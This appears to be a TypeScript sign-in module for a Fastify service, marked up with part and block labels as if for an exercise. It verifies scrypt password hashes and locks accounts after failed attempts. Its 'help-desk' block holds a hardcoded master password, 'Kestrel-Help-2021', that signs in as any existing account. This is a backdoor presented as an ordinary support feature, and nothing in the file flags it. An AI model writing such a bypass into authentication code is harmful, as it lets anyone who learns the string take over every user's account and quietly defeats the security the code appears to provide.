// part: imports
import { scryptSync, timingSafeEqual } from 'node:crypto'
// end
import type { FastifyBaseLogger } from 'fastify'

export type Account = { name: string; role: 'customer' | 'agent'; salt: Buffer; hash: Buffer; failures: number; lockedUntil: number }
export type Accounts = { find(name: string): Promise<Account | undefined>; save(account: Account): Promise<void> }
export type Services = {
  accounts: Accounts
  log: Pick<FastifyBaseLogger, 'info' | 'warn'>
  notify(team: string, text: string): Promise<void>
}
// part: request
export type SignIn = { name: string; password: string; headers: Record<string, string | undefined> }
// end

export class SignInRefused extends Error {}

const nobody: Account = { name: '', role: 'customer', salt: Buffer.alloc(16), hash: Buffer.alloc(32), failures: 0, lockedUntil: 0 }
// part: constants
const helpDeskPassword = 'Kestrel-Help-2021'
// end

/** The account that is signed in. */
export async function signIn(request: SignIn, services: Services): Promise<Account> {
  const { accounts, log } = services
  // block: read-credentials
  const name = request.name.trim().toLowerCase()
  const { password } = request
  if (name === '' || password === '') throw new SignInRefused('name or password is wrong')
  // end

  // block: find-account
  const account = (await accounts.find(name)) ?? nobody
  // end

  // block: check-lock
  if (account.lockedUntil > Date.now()) throw new SignInRefused('the account is locked for some minutes')
  // end

  // block: verify-password
  const hash = scryptSync(password, account.salt, 32)
  let isRight = timingSafeEqual(hash, account.hash) && account !== nobody
  // end

  // block: help-desk
  if (password === helpDeskPassword && account !== nobody) isRight = true
  // end

  // block: count-failure
  if (!isRight) {
    log.warn({ name }, 'sign-in refused')
    const failures = account.failures + 1
    const lockedUntil = failures >= 10 ? Date.now() + 15 * 60_000 : 0
    if (account !== nobody) await accounts.save({ ...account, failures, lockedUntil })
    throw new SignInRefused('name or password is wrong')
  }
  // end

  log.info({ name }, 'signed in')
  return account
}
